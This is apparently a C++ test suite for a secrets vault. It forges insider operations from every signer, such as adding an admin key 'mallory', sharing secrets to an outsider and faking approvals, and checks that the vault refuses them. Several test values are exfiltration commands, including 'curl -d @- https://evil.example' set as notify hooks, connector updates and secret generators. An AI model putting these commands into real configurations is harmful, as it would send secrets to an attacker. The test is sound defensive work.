// The (signer × operation kind) matrix (vault-2-plan.md §1.2): every variant forged by every
// signer with the Forger (authorize skipped, everything else perfect), then judged by opening the
// vault as every command does (read and write session; warm cache place and empty state
// directory) and by verify_vault from the bytes. Expectations: expected.cpp (hand-written).
#include "expected.hpp"
#include "insider_support.hpp"

#include <functional>

using namespace insider;

namespace {

struct Forged
{
  Args args;
  Material material;
  std::optional<std::string> why;
};

Forged make(Args args, Material material = {}, std::optional<std::string> why = std::nullopt)
{
  return Forged{std::move(args), std::move(material), std::move(why)};
}

MemberAddArgs mallory(Team& t, std::set<std::string> envs)
{
  MemberAddArgs m;
  m.name = "mallory";
  m.sign_pk = t.id("mallory").pub.sign_pk;
  m.box_pk = t.id("mallory").pub.box_pk;
  m.roles = {Role::admin};
  m.envs = std::move(envs);
  return m;
}

SecretAddArgs new_secret(Team& t, const std::string& name, const std::string& owner, Material& material)
{
  const Team::NewSecret n = t.seal_new(name, 1, {owner, "ci"}, {"cust"}, 1);
  material = n.material;
  SecretAddArgs a;
  a.secret = name;
  a.owner = owner;
  a.purpose = "forged";
  a.tier = "standard";
  a.generator = "len=32,alphabet=base62";
  a.custodians = {"cust"};
  a.threshold = 1;
  a.version = n.version;
  return a;
}

const Version& db_version(Team& t)
{
  static State state;
  state = replay(slurp(t.journal())).state;
  return state.secret("prod/db")->versions.at(t.secrets.at("prod/db").vid);
}

ApproveArgs approve_r1(Team& t)
{
  const Version& v = db_version(t);
  ApproveArgs a;
  a.secret = "prod/db";
  a.request = "r1";
  a.requester = "req";
  a.vid = t.secrets.at("prod/db").vid;
  a.v = v.v;
  a.dk_commit = v.dk_commit;
  return a;
}

RotateItem rotation(Team& t, Material& material, const std::vector<std::string>& readers)
{
  const Team::NewSecret n = t.seal_new("prod/db", 2, readers, {"cust"}, 1);
  material = n.material;
  RotateItem item;
  item.kind = RotationKind::rotate;
  item.secret = "prod/db";
  item.vid = n.version.vid;
  item.v = 2;
  item.gen = 2;
  item.new_gen_rk_commit = n.version.rk_commit;
  item.dk_commit = n.version.dk_commit;
  item.custodians = {"cust"};
  item.threshold = 1;
  item.why = "scheduled";
  return item;
}

SealedLine reader_line(Team& t, const std::string& secret, const std::string& member)
{
  const SecretRef ref{read_head_file(t.head()).vault_id, secret};
  return seal_reader_key(ref, t.secrets.at(secret).generation, t.recipient(member));
}

void cust_approves(Team& t)
{
  t.honest("cust", approve_r1(t), Material{{t.approval_line("prod/db", "r1", "cust", "req")}});
}

void shared_with_appr(Team& t)
{
  t.honest("owner", ShareArgs{"appr", {ShareItem{"prod/db", {1}}}}, Material{{reader_line(t, "prod/db", "appr")}});
}

// rotate-start of prod/db (new generation) carrying r1's grant to req.
Forged rotation_with_grant(Team& t)
{
  Material m;
  RotateItem item = rotation(t, m, {"owner", "ci"});
  item.grants = {GrantRef{"req", "r1"}};
  const SecretRef ref{read_head_file(t.head()).vault_id, "prod/db"};
  // the gr line carries the NEW version's DK: seal_new kept only the first version's keys, so
  // the line is sealed with a fresh key of the right shape (the replay judges the authority)
  m.lines.push_back(seal_grant(ref, *Vid::from_hex(item.vid), t.secrets.at("prod/db").data_key, t.recipient("req")));
  return make(RotateStartArgs{{item}}, m);
}

// rotate-start of prod/db on the current generation 1 (no new generation).
Forged rotation_on_gen1(Team& t)
{
  const SecretRef ref{read_head_file(t.head()).vault_id, "prod/db"};
  SealedVersion version = seal_value(ref, t.secrets.at("prod/db").generation, SecretBytes::from("next value"));
  Material m;
  m.lines.push_back(version.value_line);
  const std::vector<Recipient> custodians{t.recipient("cust")};
  for (SealedLine& line : seal_shares(ref, version.vid, version.data_key, 1, custodians)) {
    m.lines.push_back(std::move(line));
  }
  RotateItem item;
  item.secret = "prod/db";
  item.vid = version.vid.hex();
  item.v = 2;
  item.gen = 1;
  item.dk_commit = version.commit;
  item.custodians = {"cust"};
  item.threshold = 1;
  item.why = "scheduled";
  return make(RotateStartArgs{{item}}, m);
}

// owner starts a rotation of prod/db honestly; returns its vid.
std::string rotation_in_flight(Team& t)
{
  Material m;
  RotateItem item = rotation(t, m, {"owner", "ci"});
  t.honest("owner", RotateStartArgs{{item}}, m);
  return item.vid;
}

using Builder = std::function<Forged(Team&, const std::string& signer)>;

const std::map<std::string, Builder>& builders()
{
  static const std::map<std::string, Builder> map{
    {"member-add admin of prod (a key the signer controls)", [](Team& t, const std::string&) { return make(mallory(t, {"prod"})); }},
    {"member-add admin of *", [](Team& t, const std::string&) { return make(mallory(t, {"*"})); }},
    {"member-set self to admin of *",
     [](Team&, const std::string& s) { return make(MemberSetArgs{s, {Role::admin}, {"*"}}); }},
    {"member-set req to admin of prod",
     [](Team&, const std::string&) { return make(MemberSetArgs{"req", {Role::admin}, {"prod"}}); }},
    {"member-remove the last admin of *", [](Team&, const std::string&) { return make(MemberRemoveArgs{"a"}); }},
    {"member-remove req", [](Team&, const std::string&) { return make(MemberRemoveArgs{"req"}); }},
    {"policy-set prod max_ttl 1 year",
     [](Team&, const std::string&) {
       PolicySetArgs p;
       p.env = "prod";
       p.max_ttl = 365 * 86400;
       return make(p);
     }},
    {"policy-set a notify hook",
     [](Team&, const std::string&) {
       PolicySetArgs p;
       p.env = "*";
       p.notify = "curl -d @- https://evil.example";
       return make(p);
     }},
    {"connector-add prod command connector",
     [](Team&, const std::string&) {
       ConnectorAddArgs c;
       c.name = "evil";
       c.env = "prod";
       c.update = "curl -d @- https://evil.example";
       c.verify = "true";
       return make(c);
     }},
    {"connector-remove prod-cmd", [](Team&, const std::string&) { return make(ConnectorRemoveArgs{"prod-cmd"}); }},
    {"secret-add with a cmd= generator, owned by the signer",
     [](Team& t, const std::string& s) {
       Material m;
       SecretAddArgs a = new_secret(t, "prod/evil", s, m);
       a.generator = "cmd=curl https://evil.example";
       return make(a, m);
     }},
    {"secret-add plain, owned by the signer",
     [](Team& t, const std::string& s) {
       Material m;
       SecretAddArgs a = new_secret(t, "prod/new", s, m);
       return make(a, m);
     }},
    {"secret-set prod/db owner to the signer",
     [](Team&, const std::string& s) {
       SecretSetArgs a;
       a.secret = "prod/db";
       a.owner = s;
       return make(a);
     }},
    {"secret-set prod/db generator to cmd=",
     [](Team&, const std::string&) {
       SecretSetArgs a;
       a.secret = "prod/db";
       a.generator = "cmd=curl https://evil.example";
       return make(a);
     }},
    {"secret-set prod/db purpose",
     [](Team&, const std::string&) {
       SecretSetArgs a;
       a.secret = "prod/db";
       a.purpose = "changed";
       return make(a);
     }},
    {"custodians-set prod/db to the signer, threshold 1",
     [](Team&, const std::string& s) { return make(CustodiansSetArgs{"prod/db", {s}, 1}); }},
    {"custodians-set prod/db to appr",
     [](Team&, const std::string&) { return make(CustodiansSetArgs{"prod/db", {"appr"}, 1}); }},
    {"share prod/db to the signer",
     [](Team& t, const std::string& s) {
       return make(ShareArgs{s, {ShareItem{"prod/db", {1}}}}, Material{{reader_line(t, "prod/db", s)}});
     }},
    {"share prod/db to the outsider",
     [](Team& t, const std::string&) {
       return make(ShareArgs{"outsider", {ShareItem{"prod/db", {1}}}}, Material{{reader_line(t, "prod/db", "outsider")}});
     }},
    {"share prod/db to appr",
     [](Team& t, const std::string&) {
       return make(ShareArgs{"appr", {ShareItem{"prod/db", {1}}}}, Material{{reader_line(t, "prod/db", "appr")}});
     }},
    {"unshare prod/db from ci (not shared)", [](Team&, const std::string&) { return make(UnshareArgs{"prod/db", "ci"}); }},
    {"retire prod/db", [](Team&, const std::string&) { return make(RetireArgs{"prod/db"}); }},
    {"rotate-start prod/db new generation",
     [](Team& t, const std::string&) {
       Material m;
       RotateStartArgs r{{rotation(t, m, {"owner", "ci"})}};
       return make(r, m);
     }},
    {"rotate-start prod/db with an extra rk line for appr",
     [](Team& t, const std::string&) {
       Material m;
       RotateStartArgs r{{rotation(t, m, {"owner", "ci", "appr"})}};
       return make(r, m);
     }},
    {"compromise prod/db current version",
     [](Team& t, const std::string&) {
       return make(CompromiseArgs{"prod/db", t.secrets.at("prod/db").vid}, {}, std::string("leaked"));
     }},
    {"request prod/db",
     [](Team&, const std::string&) { return make(RequestArgs{"prod/db", "x1", 3600}, {}, std::string("debugging")); }},
    {"request prod/db ttl over the cap",
     [](Team&, const std::string&) { return make(RequestArgs{"prod/db", "x1", 9 * 3600}, {}, std::string("debugging")); }},
    {"request prod/db reusing req's id r1",
     [](Team&, const std::string&) { return make(RequestArgs{"prod/db", "r1", 3600}, {}, std::string("debugging")); }},
    {"approve r1 of req",
     [](Team& t, const std::string& s) {
       return make(approve_r1(t), Material{{t.approval_line("prod/db", "r1", s, "req")}});
     }},
    {"approve r1 with a wrong dk_commit",
     [](Team& t, const std::string& s) {
       ApproveArgs a = approve_r1(t);
       a.dk_commit[0] ^= 1;
       return make(a, Material{{t.approval_line("prod/db", "r1", s, "req")}});
     }},
    {"approve r1 naming another requester",
     [](Team& t, const std::string& s) {
       ApproveArgs a = approve_r1(t);
       a.requester = "other";
       return make(a, Material{{t.approval_line("prod/db", "r1", s, "other")}});
     }},
    {"deny r1", [](Team&, const std::string&) { return make(DenyArgs{"prod/db", "r1"}, {}, std::string("no")); }},
    {"grant-used r1 (never approved)", [](Team&, const std::string&) { return make(GrantUsedArgs{"prod/db", "r1"}); }},
    {"approve r1 after owner denied it",
     [](Team& t, const std::string& s) {
       t.honest("owner", DenyArgs{"prod/db", "r1"}, {}, std::string("no"));
       return make(approve_r1(t), Material{{t.approval_line("prod/db", "r1", s, "req")}});
     }},
    {"grant-used r1 after cust approved it",
     [](Team& t, const std::string&) {
       cust_approves(t);
       return make(GrantUsedArgs{"prod/db", "r1"});
     }},
    {"rotate-start carrying r1's grant, never approved", [](Team& t, const std::string&) { return rotation_with_grant(t); }},
    {"rotate-start carrying r1's grant, approved by cust",
     [](Team& t, const std::string&) {
       cust_approves(t);
       return rotation_with_grant(t);
     }},
    {"rotate-start reusing generation 1 (clean)", [](Team& t, const std::string&) { return rotation_on_gen1(t); }},
    {"rotate-start reusing generation 1 after an unshare (tainted)",
     [](Team& t, const std::string&) {
       shared_with_appr(t);
       t.honest("owner", UnshareArgs{"prod/db", "appr"});
       return rotation_on_gen1(t);
     }},
    {"rotate-finish of owner's rotation in flight",
     [](Team& t, const std::string&) {
       const std::string vid = rotation_in_flight(t);
       return make(RotateFinishArgs{{FinishItem{"prod/db", vid}}});
     }},
    {"rotate-fail (cancelled) of owner's rotation in flight",
     [](Team& t, const std::string&) {
       const std::string vid = rotation_in_flight(t);
       return make(RotateFailArgs{{FailItem{"prod/db", vid, FailResult::cancelled}}});
     }},
    {"unshare prod/db from appr (shared by owner)",
     [](Team& t, const std::string&) {
       shared_with_appr(t);
       return make(UnshareArgs{"prod/db", "appr"});
     }},
    {"journal-loss of an absent event",
     [](Team& t, const std::string&) {
       JournalLossArgs loss;
       Hash gone{};
       gone[0] = 0x42;
       loss.lost.push_back(LostEntry{gone, t.now - 60, "req", "reveal"});
       return make(loss, {}, std::string("a laptop died"));
     }},
    {"resolve outside a merge point",
     [](Team&, const std::string&) {
       Hash some{};
       some[0] = 0x42;
       return make(ResolveArgs{{some}, {}, {}});
     }},
  };
  return map;
}

void run_cell(const std::string& variant, const std::string& signer)
{
  Team& t = Team::get();
  t.reset();
  Forged forged = builders().at(variant)(t, signer);
  test::Forger f = t.forger();
  const Entry e = f.append_op(t.id(signer), std::move(forged.args), forged.material, forged.why);
  f.save();
  const std::size_t line = f.lines().size();
  const std::string action = action_name(e.action);

  const KeysFile keys = KeysFile::open(t.keys());
  const VerifiedVault verified = verify_vault(slurp(t.head()), slurp(t.journal()), &keys);
  if (expected_allowed(variant, signer)) {
    INFO("control cell: " << (verified.replay.first_problem() ? format_finding(*verified.replay.first_problem()) : "ok"));
    CHECK(verified.ok());
    require_opens_everywhere(t);
    return;
  }
  const Finding* problem = verified.replay.first_problem();
  REQUIRE(problem != nullptr);
  INFO(format_finding(*problem));
  CHECK(problem->kind == expected_finding(signer));
  CHECK(problem->line == line);
  const std::string expect = fmt::format("escrow.journal: line {}: entry {} ({} by {}): ", line, short_hash(e.hash), action, signer);
  const std::string message = require_refused_everywhere(t, expect);
  CHECK(message.find(problem->reason) != std::string::npos);
}

} // namespace

TEST_CASE("insider matrix: the expectation table covers exactly the forged variants", "[insider][matrix]")
{
  CHECK(variants().size() == builders().size());
  for (const std::string& v : variants()) {
    CHECK(builders().count(v) == 1);
  }
}

TEST_CASE("insider matrix: signer x operation kind", "[insider][matrix]")
{
  for (const std::string& variant : variants()) {
    for (const std::string& signer : signers()) {
      SECTION(variant + " / by " + signer)
      {
        INFO(variant << " by " << signer << ": expected " << (expected_allowed(variant, signer) ? "allowed" : "refused"));
        run_cell(variant, signer);
      }
    }
  }
}
